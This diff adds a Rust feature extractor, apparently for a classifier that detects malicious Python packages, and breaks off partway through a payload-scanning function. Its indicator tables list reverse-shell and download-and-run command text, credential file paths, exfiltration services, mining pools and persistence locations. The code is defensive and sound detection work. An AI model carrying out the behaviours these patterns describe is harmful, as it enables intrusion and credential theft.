@@ -1,0 +1,1140 @@
+//! Features of a Python source: named behavioural features (each with words a responder can
+//! read) and hashed token n-grams. Training and scoring both call [`extract`], so the two
+//! cannot drift apart.
+
+use crate::lexer::{tokenize, Kind, Token};
+use aho_corasick::AhoCorasick;
+use base64::Engine as _;
+use std::sync::OnceLock;
+
+/// Hashed n-gram buckets are `0..(1 << HASH_BITS)`.
+pub const HASH_BITS: u32 = 15;
+
+/// Encoded payloads are decoded and scanned to this depth (a blob inside a blob inside the code).
+const MAX_DEPTH: u8 = 3;
+/// At most this many bytes of decoded payload are scanned per input, across all blobs.
+const DECODE_BUDGET: usize = 512 * 1024;
+/// Behaviours combine when they occur within this many lines of each other (a reverse shell is
+/// a few lines; a library that uses sockets in one module and subprocess in another is not one).
+const WINDOW: u32 = 30;
+/// Strings at least this long are tried as encoded payloads.
+const MIN_BLOB: usize = 24;
+
+macro_rules! named_features {
+    ($($id:ident = $name:literal, $words:literal;)*) => {
+        /// The named features, in model order.
+        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+        #[allow(non_camel_case_types, missing_docs, reason = "one variant per feature name")]
+        pub enum F { $($id,)* }
+        /// Feature names, in model order (the model file lists them and must agree).
+        pub const NAMES: &[&str] = &[$($name,)*];
+        /// What each feature means, in words for a finding.
+        pub const WORDS: &[&str] = &[$($words,)*];
+        /// How many named features there are.
+        pub const N_NAMED: usize = NAMES.len();
+    };
+}
+
+named_features! {
+    Exec = "exec", "exec/eval/compile of code";
+    DynImport = "dynamic_import", "__import__/importlib of a module by name";
+    OsSystem = "os_system", "os.system/os.popen shell command";
+    Subprocess = "subprocess", "subprocess call";
+    Execv = "os_exec", "os.exec* replaces the process";
+    Dup2 = "dup2", "dup2 onto stdin/stdout/stderr";
+    Pty = "pty", "pty.spawn/openpty terminal";
+    Socket = "socket", "raw socket";
+    Connect = "connect", "outbound socket connect";
+    Listen = "bind_listen", "socket bind/listen/accept";
+    B64 = "base64_decode", "base64/base32/base85 decoding";
+    Decompress = "decompress", "zlib/gzip/bz2/lzma decompression";
+    Marshal = "marshal", "marshal.loads of bytecode";
+    Pickle = "pickle_loads", "pickle.loads";
+    HexDecode = "hex_decode", "hex/rot13 decoding";
+    Chmod = "chmod", "chmod/making a file executable";
+    Fetch = "fetch", "HTTP download (urllib/requests/http.client)";
+    Post = "post", "HTTP POST/upload";
+    WriteFile = "write_file", "file written";
+    EnvDump = "env_dump", "whole environment read (os.environ)";
+    Fingerprint = "fingerprint", "host fingerprinting (hostname/user/platform/public IP)";
+    Daemonize = "daemonize", "fork/setsid into the background";
+    WinInject = "win_inject", "ctypes memory/thread injection API";
+    WinSteal = "win_steal", "browser/Discord credential decryption";
+    SetupCall = "setup_call", "setup() of a package";
+    SetupHook = "setup_install_hook", "setup.py custom install/develop command";
+    BuiltinsObf = "builtins_obf", "getattr/globals/__builtins__ indirection";
+    Chr = "chr_calls", "characters built with chr()";
+    Lambda = "lambdas", "many lambdas";
+    Reverse = "reversed_string", "string reversed with [::-1]";
+    SelfDelete = "self_delete", "script deletes itself";
+    ShellStr = "shell_string", "shell command text (/bin/sh, bash -i, cmd.exe, powershell)";
+    DownloadCmd = "download_command", "download-and-run command text (curl/wget | sh, chmod +x)";
+    DevTcp = "dev_tcp", "/dev/tcp, mkfifo or nc -e redirection text";
+    Stratum = "stratum", "crypto-mining pool or miner (stratum+tcp, xmrig)";
+    Sensitive = "sensitive_path", "credential or secret path (ssh keys, cloud/k8s credentials, /etc/shadow, browser data)";
+    Metadata = "cloud_metadata", "cloud metadata endpoint";
+    Persist = "persistence", "persistence location (cron, shell rc, systemd, authorized_keys, Run keys)";
+    ExfilService = "exfil_service", "exfiltration service (Discord/Telegram webhooks, paste sites, tunnels)";
+    ExeDrop = "exe_drop", "executable or script file name (.exe/.bat/.ps1/.vbs)";
+    IpLiteral = "ip_literal", "hard-coded IP address";
+    RawIpUrl = "raw_ip_url", "URL to a bare IP address";
+    Url = "url", "URLs";
+    InternalUrl = "internal_address", "in-cluster address (kubernetes.default.svc, *.svc.cluster.local)";
+    KillProc = "kill_process", "kills other processes (pkill/killall/kill -9)";
+    Recv = "socket_receive", "reads commands from a socket";
+    SecretNames = "secret_names", "looks for secret-named values (TOKEN, SECRET, PASSWORD)";
+    EscapeProbe = "container_escape", "container-escape probing (/proc/1/root, docker.sock, release_agent, nsenter)";
+    PortScan = "port_scan", "port scanning (connect_ex)";
+    ShellTrue = "shell_true", "subprocess with shell=True";
+    LongB64 = "long_base64", "long base64 blob";
+    LongHex = "long_hex", "long hex blob";
+    Entropy = "string_entropy", "high-entropy string";
+    Escapes = "escape_density", "code written as \\x escapes";
+    Hidden = "hidden_code", "encoded blob decodes to code";
+    HiddenExec = "hidden_exec", "decoded blob is executed";
+    LongLine = "long_line", "very long line";
+    Semicolons = "semicolons", "statements packed with ;";
+    WeirdNames = "obfuscated_names", "obfuscated identifiers (O0O0, _0x, lIlI)";
+    Defs = "definitions", "functions and classes defined";
+    Comments = "comments", "commented code";
+    Size = "size", "size of the code";
+    RevShell = "reverse_shell", "socket connect + dup2 to stdio + shell/pty";
+    SockShell = "socket_shell", "socket + subprocess/os shell";
+    BindShell = "bind_shell", "listening socket + shell";
+    DecodeExec = "decode_exec", "decode-then-exec chain";
+    DownloadExec = "download_exec", "download then execute/chmod";
+    StealExfil = "steal_exfil", "secrets or host details read, then sent out";
+    InstallHookNet = "install_hook_action", "install hook that runs commands or downloads";
+    Sensitive2 = "env_to_network", "environment dumped and network used";
+}
+
+/// What [`extract`] found.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Features {
+    /// One value per [`NAMES`] entry, in `0..=1`.
+    pub named: Vec<f32>,
+    /// Hashed n-gram buckets present (sorted, unique).
+    pub hashed: Vec<u32>,
+}
+
+/// An n-gram of the token stream and its bucket, for explanations.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Gram {
+    /// The n-gram as text (`os.dup2 s.fileno`).
+    pub text: String,
+    /// Its bucket.
+    pub bucket: u32,
+}
+
+#[derive(Default)]
+struct Acc {
+    flags: Vec<bool>,
+    /// Lines (of the source; a decoded payload counts as its string's line) where each flag
+    /// was seen, for the combinations, which must occur close together.
+    at: Vec<Vec<u32>>,
+    line: u32,
+    chr: u32,
+    lambdas: u32,
+    max_b64: usize,
+    max_hex: usize,
+    max_entropy: f32,
+    escapes: u32,
+    urls: u32,
+    weird: u32,
+    defs: u32,
+    decoded_budget: usize,
+    hidden: bool,
+}
+
+impl Acc {
+    fn set(&mut self, f: F) {
+        self.flags[f as usize] = true;
+        let at = &mut self.at[f as usize];
+        if at.last() != Some(&self.line) {
+            at.push(self.line);
+        }
+    }
+
+    /// True when some window of [`WINDOW`] lines holds a flag from every group.
+    fn near(&self, groups: &[&[F]]) -> bool {
+        let mut events: Vec<(u32, usize)> = Vec::new();
+        for (g, flags) in groups.iter().enumerate() {
+            for f in *flags {
+                events.extend(self.at[*f as usize].iter().map(|l| (*l, g)));
+            }
+        }
+        events.sort_unstable();
+        let mut counts = vec![0usize; groups.len()];
+        let mut present = 0;
+        let mut lo = 0;
+        for hi in 0..events.len() {
+            let (line, g) = events[hi];
+            if counts[g] == 0 {
+                present += 1;
+            }
+            counts[g] += 1;
+            while events[lo].0 + WINDOW <= line {
+                let lg = events[lo].1;
+                counts[lg] -= 1;
+                if counts[lg] == 0 {
+                    present -= 1;
+                }
+                lo += 1;
+            }
+            if present == groups.len() {
+                return true;
+            }
+        }
+        false
+    }
+    fn has(&self, f: F) -> bool {
+        self.flags[f as usize]
+    }
+}
+
+/// Extracts the features of `src`.
+pub fn extract(src: &str) -> Features {
+    extract_with(src, None)
+}
+
+/// Extracts the features of `src`, also listing its n-grams when `grams` is given.
+pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
+    let mut acc = Acc {
+        flags: vec![false; N_NAMED],
+        at: vec![Vec::new(); N_NAMED],
+        ..Acc::default()
+    };
+    let (tokens, shape) = tokenize(src);
+    scan(src, &tokens, 0, &mut acc);
+    let mut named = vec![0f32; N_NAMED];
+    for (i, on) in acc.flags.iter().enumerate() {
+        if *on {
+            named[i] = 1.0;
+        }
+    }
+    let a = &acc;
+    let combo = |on: bool| if on { 1.0 } else { 0.0 };
+    const SHELLISH: &[F] = &[F::Pty, F::Subprocess, F::OsSystem, F::ShellStr, F::Execv];
+    named[F::RevShell as usize] = combo(a.near(&[&[F::Connect], &[F::Dup2], SHELLISH]));
+    named[F::SockShell as usize] = combo(a.near(&[
+        &[F::Socket, F::Connect],
+        &[F::Subprocess, F::OsSystem, F::Pty],
+        &[F::ShellStr, F::Recv],
+    ]));
+    named[F::BindShell as usize] = combo(a.near(&[&[F::Listen], SHELLISH]));
+    named[F::DecodeExec as usize] = combo(a.near(&[
+        &[F::B64, F::Decompress, F::Marshal, F::HexDecode, F::Reverse],
+        &[F::Exec],
+    ]));
+    named[F::DownloadExec as usize] = combo(a.near(&[
+        &[F::Fetch, F::DownloadCmd],
+        &[F::Exec, F::Chmod, F::OsSystem, F::Subprocess],
+    ]));
+    named[F::StealExfil as usize] = combo(a.near(&[
+        &[F::Sensitive, F::Metadata, F::WinSteal, F::Fingerprint],
+        &[F::Post, F::ExfilService, F::Connect],
+    ]));
+    // A setup.py's command class and what its run() does can be far apart.
+    named[F::InstallHookNet as usize] = combo(
+        a.has(F::SetupHook)
+            && (a.has(F::OsSystem)
+                || a.has(F::Subprocess)
+                || a.has(F::Fetch)
+                || a.has(F::Exec)
+                || a.has(F::Socket)),
+    );
+    named[F::Sensitive2 as usize] =
+        combo(a.near(&[&[F::EnvDump], &[F::Fetch, F::Post, F::Connect]]));
+    let len = src.len().max(1) as f32;
+    named[F::Chr as usize] = scaled(a.chr, 64.0);
+    named[F::Lambda as usize] = scaled(a.lambdas.saturating_sub(2), 32.0);
+    named[F::LongB64 as usize] = scaled(a.max_b64.saturating_sub(64) as u32, 65536.0);
+    named[F::LongHex as usize] = scaled(a.max_hex.saturating_sub(32) as u32, 65536.0);
+    named[F::Entropy as usize] = ((a.max_entropy - 4.0) / 2.0).clamp(0.0, 1.0);
+    named[F::Escapes as usize] = (a.escapes as f32 * 4.0 / len).min(1.0);
+    named[F::Url as usize] = scaled(a.urls, 32.0);
+    named[F::Hidden as usize] = combo(a.hidden);
+    named[F::HiddenExec as usize] = combo(a.hidden && a.has(F::Exec));
+    named[F::LongLine as usize] = scaled(shape.max_line.saturating_sub(200), 100_000.0);
+    named[F::Semicolons as usize] = (shape.semicolons as f32 / shape.lines.max(1) as f32).min(1.0);
+    named[F::WeirdNames as usize] = scaled(a.weird, 64.0);
+    named[F::Defs as usize] = scaled(a.defs, 256.0);
+    named[F::Comments as usize] = shape.comment_lines as f32 / shape.lines.max(1) as f32;
+    named[F::Size as usize] = scaled(u32::try_from(src.len()).unwrap_or(u32::MAX), 4_000_000.0);
+    let hashed = ngrams(&tokens, grams);
+    Features { named, hashed }
+}
+
+/// `log(1 + n) / log(1 + max)`, clamped to 1.
+fn scaled(n: u32, max: f32) -> f32 {
+    ((n as f32).ln_1p() / max.ln_1p()).min(1.0)
+}
+
+fn next_is_call(tokens: &[Token], i: usize) -> bool {
+    tokens
+        .get(i + 1)
+        .is_some_and(|t| t.kind == Kind::Op && t.text == "(")
+}
+
+fn last_segment(name: &str) -> &str {
+    name.rsplit('.').next().unwrap_or(name)
+}
+
+/// Walks the tokens (of the source, or of a payload decoded from it at `depth` > 0).
+fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
+    let (mut line, mut pos) = (0u32, 0usize);
+    for (i, t) in tokens.iter().enumerate() {
+        if depth == 0 {
+            let upto = t.offset.min(src.len());
+            if upto > pos {
+                line += src.as_bytes()[pos..upto]
+                    .iter()
+                    .filter(|&&c| c == b'\n')
+                    .count() as u32;
+                pos = upto;
+            }
+            acc.line = line;
+        }
+        match t.kind {
+            Kind::Name => {
+                let full = t.text.as_str();
+                let last = last_segment(full);
+                let call = next_is_call(tokens, i);
+                match last {
+                    // The builtins only: `re.compile` and `cursor.execute` are not code execution.
+                    "exec" | "eval" | "compile" | "execfile"
+                        if (full == last
+                            || full.starts_with("builtins")
+                            || full.starts_with("__builtins__"))
+                            && (call || tokens.get(i + 1).is_some_and(|n| n.kind == Kind::Str)) =>
+                    {
+                        acc.set(F::Exec);
+                    }
+                    "__import__" | "import_module" => acc.set(F::DynImport),
+                    "system" | "popen" | "popen2" | "popen3" | "getoutput" | "getstatusoutput"
+                    | "spawnl" | "spawnlp" | "spawnv" | "spawnvp" | "startfile"
+                        if call =>
+                    {
+                        acc.set(F::OsSystem);
+                    }
+                    "Popen" | "check_output" | "check_call" | "run" | "call"
+                        if call
+                            && (last == "Popen"
+                                || last == "check_output"
+                                || last == "check_call"
+                                || full.starts_with("subprocess")
+                                || full.starts_with("sp.")) =>
+                    {
+                        acc.set(F::Subprocess)
+                    }
+                    "execv" | "execve" | "execvp" | "execvpe" | "execl" | "execle" | "execlp"
+                    | "execlpe" => acc.set(F::Execv),
+                    "dup2" | "dup" => acc.set(F::Dup2),
+                    "spawn" | "openpty" | "forkpty" if full.contains("pty") || last != "spawn" => {
+                        acc.set(F::Pty)
+                    }
+                    "socket" | "create_connection" | "socketpair" if call => {
+                        acc.set(F::Socket);
+                        if last == "create_connection" {
+                            acc.set(F::Connect);
+                        }
+                    }
+                    "connect" | "connect_ex" | "create_connection" | "sendto"
+                    | "open_connection" | "wrap_socket" => {
+                        acc.set(F::Connect);
+                        if last == "connect_ex" {
+                            acc.set(F::PortScan);
+                        }
+                    }
+                    "recv" | "recvfrom" | "recv_into" | "makefile" | "readline"
+                        if call && (last != "readline" || full.starts_with("reader")) =>
+                    {
+                        acc.set(F::Recv)
+                    }
+                    "create_subprocess_shell" | "create_subprocess_exec" => acc.set(F::Subprocess),
+                    "shell"
+                        if tokens.get(i + 1).is_some_and(|n| n.text == "=")
+                            && tokens.get(i + 2).is_some_and(|n| n.text == "True") =>
+                    {
+                        acc.set(F::ShellTrue)
+                    }
+                    "bind" | "listen" | "accept" if call => acc.set(F::Listen),
+                    "b64decode" | "decodebytes" | "decodestring" | "a85decode" | "b85decode"
+                    | "b32decode" | "b16decode" | "standard_b64decode" | "urlsafe_b64decode"
+                    | "a2b_base64" => acc.set(F::B64),
+                    "decompress" | "decompressobj" | "GzipFile" | "inflate" => {
+                        acc.set(F::Decompress)
+                    }
+                    "loads" | "load" if full.starts_with("marshal") => acc.set(F::Marshal),
+                    "loads" | "load"
+                        if full.starts_with("pickle")
+                            || full.starts_with("cPickle")
+                            || full.starts_with("dill") =>
+                    {
+                        acc.set(F::Pickle)
+                    }
+                    "fromhex" | "unhexlify" | "a2b_hex" => acc.set(F::HexDecode),
+                    "chmod" | "fchmod" => acc.set(F::Chmod),
+                    "urlopen" | "urlretrieve" | "HTTPConnection" | "HTTPSConnection"
+                    | "Request" | "PoolManager" | "urlopener" | "URLopener" | "curl" => {
+                        acc.set(F::Fetch)
+                    }
+                    "get" | "post" | "put" | "request" | "Session"
+                        if full.starts_with("requests")
+                            || full.starts_with("httpx")
+                            || full.starts_with("session") =>
+                    {
+                        acc.set(F::Fetch);
+                        if last == "post" || last == "put" {
+                            acc.set(F::Post);
+                        }
+                    }
+                    "upload_file" | "upload_fileobj" | "put_object" if call => acc.set(F::Post),
+                    "environ"
+                        if !tokens
+                            .get(i + 1)
+                            .is_some_and(|n| n.kind == Kind::Op && n.text == "[") =>
+                    {
+                        acc.set(F::EnvDump)
+                    }
+                    "items" | "copy" | "keys" | "values"
+                        if full.ends_with("environ.items")
+                            || full.ends_with("environ.copy")
+                            || full.ends_with("environ.keys")
+                            || full.ends_with("environ.values") =>
+                    {
+                        acc.set(F::EnvDump)
+                    }
+                    "gethostname" | "getuser" | "getlogin" | "node" | "uname" | "gethostbyname"
+                    | "getfqdn"
+                        if call =>
+                    {
+                        acc.set(F::Fingerprint)
+                    }
+                    "setsid" | "daemon" | "fork" if full.starts_with("os") || last == "setsid" => {
+                        acc.set(F::Daemonize)
+                    }
+                    "windll" | "VirtualAlloc" | "VirtualAllocEx" | "CreateThread"
+                    | "CreateRemoteThread" | "WriteProcessMemory" | "RtlMoveMemory" | "memmove"
+                        if full.contains("ctypes")
+                            || full.contains("kernel32")
+                            || last != "memmove" =>
+                    {
+                        acc.set(F::WinInject)
+                    }
+                    "CryptUnprotectData" | "win32crypt" => acc.set(F::WinSteal),
+                    "setup" if call => acc.set(F::SetupCall),
+                    "cmdclass" => acc.set(F::SetupHook),
+                    "__builtins__" | "builtins" | "globals" | "vars" | "getattr" | "__dict__"
+                        if depth == 0
+                            && (last == "__builtins__" || last == "globals" || call)
+                            && (last != "getattr"
+                                || tokens.get(i + 2).is_some_and(|n| {
+                                    n.kind == Kind::Name
+                                        && (n.text.contains("builtins")
+                                            || n.text == "os"
+                                            || n.text.starts_with("__import__"))
+                                })) =>
+                    {
+                        acc.set(F::BuiltinsObf);
+                    }
+                    "chr" if call => acc.chr += 1,
+                    "lambda" => acc.lambdas += 1,
+                    "remove" | "unlink"
+                        if tokens
+                            .get(i + 2)
+                            .is_some_and(|n| n.text == "__file__" || n.text == "sys.argv") =>
+                    {
+                        acc.set(F::SelfDelete)
+                    }
+                    "def" | "class" => acc.defs += 1,
+                    _ => {}
+                }
+                if is_weird_name(full) {
+                    acc.weird += 1;
+                }
+                if depth == 0
+                    && (last == "install"
+                        || last == "develop"
+                        || last == "egg_info"
+                        || last == "build_py")
+                    && tokens
+                        .get(i.wrapping_sub(2))
+                        .is_some_and(|p| p.text == "class")
+                {
+                    acc.set(F::SetupHook);
+                }
+                if full.starts_with("win32crypt")
+                    || full.starts_with("Crypto.Cipher") && src.contains("Local State")
+                {
+                    acc.set(F::WinSteal);
+                }
+            }
+            Kind::Str => {
+                if matches!(t.text.as_str(), "w" | "wb" | "w+" | "wb+" | "ab" | "a+") {
+                    acc.set(F::WriteFile);
+                }
+                string(t, depth, acc);
+            }
+            Kind::Op => {
+                if t.text == "[" && reversed_at(tokens, i) {
+                    acc.set(F::Reverse);
+                }
+            }
+            Kind::Number => {}
+        }
+    }
+}
+
+/// `[::-1]` starting at token `i`.
+fn reversed_at(tokens: &[Token], i: usize) -> bool {
+    let texts: Vec<&str> = tokens
+        .get(i..i + 6)
+        .map(|s| s.iter().map(|t| t.text.as_str()).collect())
+        .unwrap_or_default();
+    texts == ["[", ":", ":", "-", "1", "]"]
+}
+
+fn is_weird_name(name: &str) -> bool {
+    let seg = last_segment(name);
+    if seg.len() < 6 {
+        return seg.starts_with("_0x") && seg.len() > 3;
+    }
+    if seg.starts_with("_0x") {
+        return true;
+    }
+    let confusable = seg
+        .bytes()
+        .filter(|c| matches!(c, b'O' | b'0' | b'I' | b'l' | b'1'))
+        .count();
+    confusable * 10 >= seg.len() * 9 && seg.bytes().any(|c| matches!(c, b'0' | b'1' | b'O'))
+}
+
+struct Patterns {
+    ac: AhoCorasick,
+    features: Vec<F>,
+}
+
+fn patterns() -> &'static Patterns {
+    static P: OnceLock<Patterns> = OnceLock::new();
+    P.get_or_init(|| {
+        let table: &[(F, &[&str])] = &[
+            (
+                F::ShellStr,
+                &[
+                    "/bin/sh",
+                    "/bin/bash",
+                    "bash -i",
+                    "sh -i",
+                    "/bin/zsh",
+                    "cmd.exe",
+                    "powershell",
+                    "/bin/busybox",
+                    "-c 'exec",
+                    "cmd /c",
+                ],
+            ),
+            (
+                F::DownloadCmd,
+                &[
+                    "curl ",
+                    "wget ",
+                    "| sh",
+                    "|sh",
+                    "| bash",
+                    "|bash",
+                    "chmod +x",
+                    "chmod 777",
+                    "chmod 755 /tmp",
+                    "invoke-webrequest",
+                    "downloadstring",
+                    "downloadfile",
+                    "certutil",
+                    "bitsadmin",
+                    "start /b",
+                    "mshta",
+                    "rundll32",
+                    "regsvr32",
+                    "iex(",
+                ],
+            ),
+            (
+                F::DevTcp,
+                &[
+                    "/dev/tcp/",
+                    "/dev/udp/",
+                    "mkfifo",
+                    "nc -e",
+                    "ncat -e",
+                    "nc.traditional",
+                    "0>&1",
+                    ">&/dev/",
+                    "2>&1 | nc",
+                    "socat exec",
+                    "socat tcp",
+                ],
+            ),
+            (
+                F::Stratum,
+                &[
+                    "stratum+tcp",
+                    "stratum+ssl",
+                    "stratum+tls",
+                    "stratum2+",
+                    "xmrig",
+                    "minerd",
+                    "cryptonight",
+                    "randomx",
+                    "monero",
+                    "nicehash",
+                    "--donate-level",
+                    "cpuminer",
+                    "nanopool",
+                    "minexmr",
+                    "supportxmr",
+                    "2miners",
+                    "ethermine",
+                ],
+            ),
+            (
+                F::Sensitive,
+                &[
+                    ".ssh/id_",
+                    "id_rsa",
+                    "id_ed25519",
+                    ".aws/credentials",
+                    ".aws/config",
+                    ".kube/config",
+                    "serviceaccount/token",
+                    "/etc/shadow",
+                    "/etc/passwd",
+                    "login data",
+                    "local state",
+                    "\\cookies",
+                    "/cookies",
+                    ".git-credentials",
+                    ".docker/config.json",
+                    "wallet.dat",
+                    "keychain",
+                    "discord",
+                    "leveldb",
+                    "\\appdata\\",
+                    "appdata",
+                    ".bash_history",
+                    "application_default_credentials",
+                    "/proc/self/environ",
+                    "/environ",
+                    "/proc/1/root",
+                    "docker.sock",
+                    "release_agent",
+                    "/var/run/secrets",
+                    ".npmrc",
+                    ".pypirc",
+                    ".netrc",
+                    "gcloud/credentials",
+                    "credentials.db",
+                    "access_tokens.db",
+                    "exodus",
+                    "metamask",
+                    "telegram desktop",
+                    "tdata",
+                    "filezilla",
+                    "wallets",
+                ],
+            ),
+            (
+                F::Metadata,
+                &[
+                    "169.254.169.254",
+                    "metadata.google.internal",
+                    "computemetadata",
+                    "100.100.100.200",
+                    "fd00:ec2::254",
+                    "/latest/meta-data",
+                    "/metadata/instance",
+                ],
+            ),
+            (
+                F::Persist,
+                &[
+                    "crontab",
+                    "/etc/cron",
+                    "/var/spool/cron",
+                    ".bashrc",
+                    ".bash_profile",
+                    ".profile",
+                    "/etc/profile.d",
+                    "systemd/system",
+                    "systemctl enable",
+                    "authorized_keys",
+                    "ld.so.preload",
+                    "currentversion\\run",
+                    "\\startup",
+                    "schtasks",
+                    "rc.local",
+                    "/etc/init.d",
+                    ".config/autostart",
+                ],
+            ),
+            (
+                F::ExfilService,
+                &[
+                    "discord.com/api/webhooks",
+                    "discordapp.com/api/webhooks",
+                    "api.telegram.org",
+                    "pastebin.com",
+                    "transfer.sh",
+                    "ngrok",
+                    "oast.",
+                    "interact.sh",
+                    "burpcollaborator",
+                    "requestbin",
+                    "pipedream",
+                    "webhook.site",
+                    "hastebin",
+                    "anonfiles",
+                    "file.io",
+                    "temp.sh",
+                    "dnslog",
+                    "ceye.io",
+                    "herokuapp.com",
+                    "glitch.me",
+                    "repl.co",
+                    "cdn.discordapp.com/attachments",
+                    "bit.ly",
+                    "paste.ee",
+                    "gofile.io",
+                    "api.ipify.org",
+                    "ifconfig.me",
+                    "ipinfo.io",
+                    "icanhazip",
+                    "checkip.",
+                ],
+            ),
+            (
+                F::ExeDrop,
+                &[
+                    ".exe", ".bat", ".vbs", ".ps1", ".scr", ".hta", ".cmd\"", ".jar",
+                ],
+            ),
+            (F::KillProc, &["pkill", "killall", "kill -9", "taskkill"]),
+            (
+                F::SecretNames,
+                &[
+                    "token",
+                    "secret",
+                    "password",
+                    "passwd",
+                    "api_key",
+                    "apikey",
+                    "private_key",
+                    "credential",
+                ],
+            ),
+            (
+                F::EscapeProbe,
+                &[
+                    "/proc/1/root",
+                    "/proc/1/ns",
+                    "docker.sock",
+                    "release_agent",
+                    "notify_on_release",
+                    "nsenter",
+                    "core_pattern",
+                    "capeff",
+                    "containerd.sock",
+                    "crio.sock",
+                ],
+            ),
+            (
+                F::InternalUrl,
+                &[
+                    "kubernetes.default",
+                    ".svc.cluster.local",
+                    ".svc:",
+                    ".internal:",
+                    "unix://",
+                    "/run/",
+                ],
+            ),
+        ];
+        let mut pats = Vec::new();
+        let mut features = Vec::new();
+        for (f, list) in table {
+            for p in *list {
+                pats.push(*p);
+                features.push(*f);
+            }
+        }
+        Patterns {
+            ac: AhoCorasick::builder()
+                .ascii_case_insensitive(true)
+                .build(&pats)
+                .expect("the fixed indicator patterns build"),
+            features,
+        }
+    })
+}
+
+fn string(t: &Token, depth: u8, acc: &mut Acc) {
+    let s = t.text.as_str();
+    acc.escapes += t.escapes;
+    if s.is_empty() {
+        return;
+    }
+    let p = patterns();
+    for m in p.ac.find_overlapping_iter(s) {
+        acc.set(p.features[m.pattern().as_usize()]);
+    }
+    let lower_url = s.len() >= 7
+        && (s.contains("http://")
+            || s.contains("https://")
+            || s.contains("ftp://")
+            || s.contains("HTTP://"));
+    if lower_url {
+        acc.urls += 1;
+        for scheme in ["http://", "https://"] {
+            if let Some(pos) = s.find(scheme) {
+                if s[pos + scheme.len()..].starts_with(|c: char| c.is_ascii_digit() || c == '[') {
+                    acc.set(F::RawIpUrl);
+                }
+            }
+        }
+    }
+    if has_ipv4(s) {
+        acc.set(F::IpLiteral);
+    }
+    if s.len() >= 20 {
+        let e = entropy(s.as_bytes());
+        if e > acc.max_entropy {
+            acc.max_entropy = e;
+        }
+    }
+    if s.len() >= MIN_BLOB {
+        blob(s, depth, acc);
+    }
+    // Code kept in a plain string (`exec("import socket\n…")`) is scanned as code too.
+    if s.len() >= 16
+        && depth < MAX_DEPTH
+        && acc.decoded_budget < DECODE_BUDGET
+        && (s.contains("import ") || s.contains("__import__"))
+    {
+        acc.decoded_budget += s.len();
+        let (tokens, _) = tokenize(s);
+        scan(s, &tokens, depth + 1, acc);
+    }
+}
+
+fn has_ipv4(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i].is_ascii_digit()
+            && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.'))
+        {
+            let mut parts = 0;
+            let mut j = i;
+            loop {
+                let start = j;
+                while j < b.len() && b[j].is_ascii_digit() && j - start < 4 {
+                    j += 1;
+                }
+                let n = j - start;
+                if n == 0 || n > 3 {
+                    break;
+                }
+                let v: u32 = s[start..j].parse().unwrap_or(999);
+                if v > 255 {
+                    break;
+                }
+                parts += 1;
+                if parts == 4 {
+                    let ends = j >= b.len() || !(b[j].is_ascii_alphanumeric() || b[j] == b'.');
+                    // 0.0.0.0 and version-like 1.2.3.4 are common; count the rest.
+                    if ends && &s[i..j] != "0.0.0.0" && &s[i..j] != "127.0.0.1" {
+                        return true;
+                    }
+                    break;
+                }
+                if j < b.len() && b[j] == b'.' {
+                    j += 1;
+                } else {
+                    break;
+                }
+            }
+            i = j.max(i + 1);
+        } else {
+            i += 1;
+        }
+    }
+    false
+}
+
+/// Shannon entropy in bits per byte.
+fn entropy(b: &[u8]) -> f32 {
+    let mut counts = [0u32; 256];
+    for &c in b {
+        counts[c as usize] += 1;
+    }
+    let n = b.len() as f32;
+    counts
+        .iter()
+        .filter(|&&c| c > 0)
+        .map(|&c| {
+            let p = c as f32 / n;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+/// Tries `s` as an encoded payload (base64, hex, possibly compressed) and scans what it holds.
+fn blob(s: &str, depth: u8, acc: &mut Acc) {
+    let trimmed = s.trim();
+    let compact: String;
+    let body = if trimmed.bytes().any(|c| c.is_ascii_whitespace()) {
+        compact = trimmed
+            .chars()
+            .filter(|c| !c.is_ascii_whitespace())
+            .collect();
+        compact.as_str()
+    } else {
+        trimmed
+    };
+    let is_b64 = body.len() >= MIN_BLOB
+        && body
+            .bytes()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
+        && body
+            .bytes()
+            .any(|c| c.is_ascii_digit() || c.is_ascii_uppercase());
+    let is_hex =
+        body.len() >= 32 && body.len() % 2 == 0 && body.bytes().all(|c| c.is_ascii_hexdigit());
+    if is_hex {
+        acc.max_hex = acc.max_hex.max(body.len());
+    } else if is_b64 {
+        acc.max_b64 = acc.max_b64.max(body.len());
+    }
+    if depth >= MAX_DEPTH || acc.decoded_budget >= DECODE_BUDGET {
+        return;
+    }
+    let decoded = if is_hex {
+        hex::decode(body).ok()
+    } else if is_b64 {
+        let unpadded = body.trim_end_matches('=');
+        base64::engine::general_purpose::STANDARD_NO_PAD
+            .decode(unpadded)
+            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(unpadded))
+            .ok()
+    } else {
+        None
+    };
+    let Some(bytes) = decoded else { return };
+    let bytes = inflate(&bytes).unwrap_or(bytes);
+    payload(&bytes, depth, acc);
+}
+
+/// Decompresses zlib, gzip or raw-deflate data, bounded.
+fn inflate(b: &[u8]) -> Option<Vec<u8>> {
+    const LIMIT: usize = 256 * 1024;
+    let zlib = b.len() > 2 && b[0] == 0x78 && matches!(b[1], 0x01 | 0x5e | 0x9c | 0xda);
+    let gzip = b.len() > 10 && b[0] == 0x1f && b[1] == 0x8b;
+    if zlib {
+        miniz_oxide::inflate::decompress_to_vec_zlib_with_limit(b, LIMIT).ok()
+    } else if gzip {
+        // Skip the fixed gzip header (no optional fields, the common case).
+        let flags = b[3];
+        if flags != 0 {
+            return None;
+        }
+        miniz_oxide::inflate::decompress_to_vec_with_limit(&b[10..], LIMIT).ok()
+    } else {
+        None
+    }
+}
+
+/// Scans a decoded payload when it reads as text that looks like code or a command.
+fn payload(bytes: &[u8], depth: u8, acc: &mut Acc) {
+    let take = bytes
+        .len()
+        .min(DECODE_BUDGET.saturating_sub(acc.decoded_budget));
+    acc.decoded_budget += take;
+    let bytes = &bytes[..take];
+    let printable = bytes
+        .iter()
+        .filter(|&&c| c == b'\n' || c == b'\t' || c == b'\r' || (0x20..0x7f).contains(&c))
+        .count();
